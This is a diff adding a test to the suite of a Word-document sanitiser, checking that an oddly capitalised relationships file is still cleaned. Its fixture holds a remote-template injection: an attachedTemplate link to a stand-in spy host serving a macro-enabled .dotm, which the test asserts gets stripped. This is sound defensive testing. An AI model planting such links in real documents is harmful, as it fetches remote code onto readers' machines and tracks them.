@@ -179,3 +179,15 @@ def test_a_picture_that_we_do_not_look_into_makes_it_not_complete(corpus: dict[s
 def test_a_broken_photo_within_makes_it_broken(corpus: dict[str, Path], tmp_path: Path) -> None:
     broken: letters.Parts = {"word/media/image1.jpeg": b"\xff\xd8\xff\xe0" + bytes(99)}
     assert refusal_of(letters.repacked(tmp_path / "a.docx", corpus["surat.docx"], broken)) is Refusal.BROKEN
+
+
+def test_relations_under_a_name_in_capitals_ask_nobody(corpus: dict[str, Path], tmp_path: Path) -> None:
+    name = "word/_rels/catatan.xml.RELS"
+    remote = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        'Target="http://pengintai.example/a.dotm" TargetMode="External"/></Relationships>'
+    )
+    archive, result = cleaned(letters.repacked(tmp_path / "surat.docx", corpus["surat.docx"], {name: remote}))
+    assert b"pengintai" not in archive.read(name)
+    assert Trace.LINKS in result.removed
